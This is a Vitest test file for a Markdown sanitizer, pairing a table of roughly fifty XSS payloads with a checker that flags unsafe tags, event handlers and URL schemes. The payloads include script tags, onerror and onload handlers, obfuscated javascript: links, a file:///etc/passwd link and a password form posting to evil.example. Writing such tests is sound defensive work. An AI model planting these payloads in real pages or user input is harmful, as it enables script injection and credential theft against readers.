import { describe, expect, it } from "vitest";
import { renderBody } from "./render-body";

const render = (content: string) => renderBody({ content, format: "markdown" }, { idPrefix: "p1-", medium: "page" });

// Each row is something an author (or whoever took their session) might write to reach a
// reader's browser. Whatever it becomes, the page must carry none of what the row names.
const hostile: [string, string][] = [
  ["a script block", "<script>alert(1)</script>"],
  ["a script inline", "Hello <script>alert(1)</script> there"],
  ["a script with a source", '<script src="https://evil.example/x.js"></script>'],
  ["a style block", "<style>body{display:none}</style>"],
  ["a style attribute", '<p style="position:fixed;inset:0">cover</p>'],
  ["an iframe", '<iframe src="https://evil.example"></iframe>'],
  ["an object", '<object data="https://evil.example/x.swf"></object>'],
  ["an embed", '<embed src="https://evil.example/x.swf">'],
  ["an image's onerror", '<img src=x onerror="alert(1)">'],
  ["a body's onload", '<body onload="alert(1)">'],
  ["a link's onclick", '<a href="/" onclick="alert(1)">x</a>'],
  ["an svg with a script", "<svg><script>alert(1)</script></svg>"],
  ["an svg's onload", '<svg onload="alert(1)"><circle r="1"/></svg>'],
  ["a math element", '<math><mtext><img src=x onerror="alert(1)"></mtext></math>'],
  ["a form", '<form action="https://evil.example"><input name="password"></form>'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["a base", '<base href="https://evil.example/">'],
  ["a link element", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["a javascript: link", "[click](javascript:alert(1))"],
  ["a JavaScript: link in capitals", "[click](JavaScript:alert(1))"],
  ["a javascript: link written with entities", "[click](jav&#x61;script:alert(1))"],
  ["a javascript: link behind a tab entity", "[click](java&#9;script:alert(1))"],
  ["a javascript: autolink", "<javascript:alert(1)>"],
  ["a javascript: reference-style link", "[click][x]\n\n[x]: javascript:alert(1)"],
  ["a javascript: image", "![x](javascript:alert(1))"],
  ["a vbscript: link", "[click](vbscript:msgbox(1))"],
  ["a data: link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["a file: link", "[click](file:///etc/passwd)"],
  ["a link nested in a link's text", "[outer [inner](javascript:alert(1))](https://example.com)"],
  ["a raw link inside a Markdown link", '[<a href="javascript:alert(1)">x</a>](https://example.com)'],
  ["an HTML comment", "<!-- <script>alert(1)</script> -->"],
  ["a CDATA section", "<![CDATA[<script>alert(1)</script>]]>"],
  ["a raw HTML block", '<div onmouseover="alert(1)">\n\n*hover*\n\n</div>'],
  ["escaped markup in entities", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["a title attribute breaking out", '[x](https://example.com "a\\" onmouseover=\\"alert(1)")'],
  ["a control character in a scheme", "[click](java\u0001script:alert(1))"],
  ["a details element", "<details open ontoggle=alert(1)>x</details>"],
  ["a template", "<template><script>alert(1)</script></template>"],
  ["a footnote holding markup", "Note.[^x]\n\n[^x]: <script>alert(1)</script> [y](javascript:alert(1))"],
  ["a heading holding markup", "# <img src=x onerror=alert(1)> Title"],
  ["a table cell holding markup", "| a |\n| - |\n| <script>alert(1)</script> |"],
  ["a javascript: image alone, as a figure", '![x](javascript:alert(1) "A caption")'],
  ["a data: image alone, as a figure", "![x](data:image/png;base64,iVBORw0KGgo=)"],
  ["a figure's caption holding markup", '![x](/uploads/images/a.jpg "<script>alert(1)</script>")'],
  ["a directive with hostile attributes", ':::aside{onclick="alert(1)" style="position:fixed" id="main"}\nwords\n:::'],
  ["a directive's label holding markup", ":::pullquote[<img src=x onerror=alert(1)>]\nwords\n:::"],
  ["an unknown directive with hostile attributes", '::frame{src="javascript:alert(1)" onload="alert(1)"}'],
  ["a video slug holding markup", "::video[<script>alert(1)</script>]"],
  ["a video slug breaking out of its attribute", '::video[x" onload="alert(1)]'],
  ["a YouTube address holding markup", "https://www.youtube.com/watch?v=<script>alert(1)</script>"],
  ["a javascript: link dressed as YouTube", "[x](javascript://www.youtube.com/watch?v=dQw4w9WgXcQ)"],
];

// The serializer quotes every attribute value with `"` and writes a `"` inside one as an
// entity, so a page's tags and attributes can be read back with two patterns.
const TAG = /<([a-z0-9]+)((?:\s[\w-]+(?:="[^"]*")?)*)\s*>/g;
const ATTRIBUTE = /\s([\w-]+)(?:="([^"]*)")?/g;
const ALLOWED_TAGS = new Set(
  "p a em strong del code pre img sup span h2 h3 label input section ol ul li table thead tbody tr th td hr br figure figcaption aside nav".split(
    " ",
  ),
);
const SAFE_URL = /^(https?:|mailto:|\/|#|[^:]*$)/i;

/** Every way `html` could run or load something it should not, in words; none is the goal. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [, tag = "", attributes = ""] of html.matchAll(TAG)) {
    if (!ALLOWED_TAGS.has(tag)) found.push(`<${tag}>`);
    for (const [, name = "", value = ""] of attributes.matchAll(ATTRIBUTE)) {
      if (/^on/i.test(name) || name === "style") found.push(`${tag}[${name}]`);
      if ((name === "href" || name === "src") && !SAFE_URL.test(value)) found.push(`${tag}[${name}=${value}]`);
    }
  }
  // Anything left looking like a tag was not one the serializer wrote.
  if (/<(?![a-z0-9/])/i.test(html.replaceAll(TAG, ""))) found.push("a stray <");
  return found;
}

describe("the body sanitizer", () => {
  it("has a table of at least 30 hostile inputs", () => {
    expect(hostile.length).toBeGreaterThanOrEqual(30);
  });

  it.each(hostile)("neutralises %s", (_name, markdown) => {
    expect(dangers(render(markdown))).toEqual([]);
  });

  it("finds what it looks for", () => {
    expect(dangers('<p onclick="x">a</p><iframe src="javascript:x"></iframe><a href="data:x">b</a>')).toEqual([
      "p[onclick]",
      "<iframe>",
      "iframe[src=javascript:x]",
      "a[href=data:x]",
    ]);
  });

  it("keeps what the hostile text said as text, where it was text", () => {
    expect(render("&lt;script&gt;")).toBe("<p>&#x3C;script></p>");
    expect(render("[click](javascript:alert(1))")).toBe("<p><a>click</a></p>");
  });

  it("keeps links to the web and mail, and to the site's own pages", () => {
    expect(render("[a](https://example.com) [b](/archive) [c](mailto:a@example.com) [d](#p1-x)")).toBe(
      '<p><a href="https://example.com" rel="noopener">a</a> <a href="/archive">b</a> <a href="mailto:a@example.com">c</a> <a href="#p1-x">d</a></p>',
    );
  });

  it("shows the placeholder for an image from another site", () => {
    const placeholder =
      'src="/images/placeholder.svg" alt="a" loading="lazy" decoding="async" width="1200" height="675"';
    expect(render("![a](https://evil.example/x.png) ![a](//evil.example/y.png) ![c](/uploads/c.png)")).toBe(
      `<p><img ${placeholder}> <img ${placeholder}> <img src="/uploads/c.png" alt="c" loading="lazy"></p>`,
    );
  });

  it("draws a directive's box and no attribute the author gave it", () => {
    expect(render(':::aside{onclick="alert(1)" .evil #main}\nwords\n:::')).toBe(
      '<aside class="aside"><p>words</p></aside>',
    );
  });
});
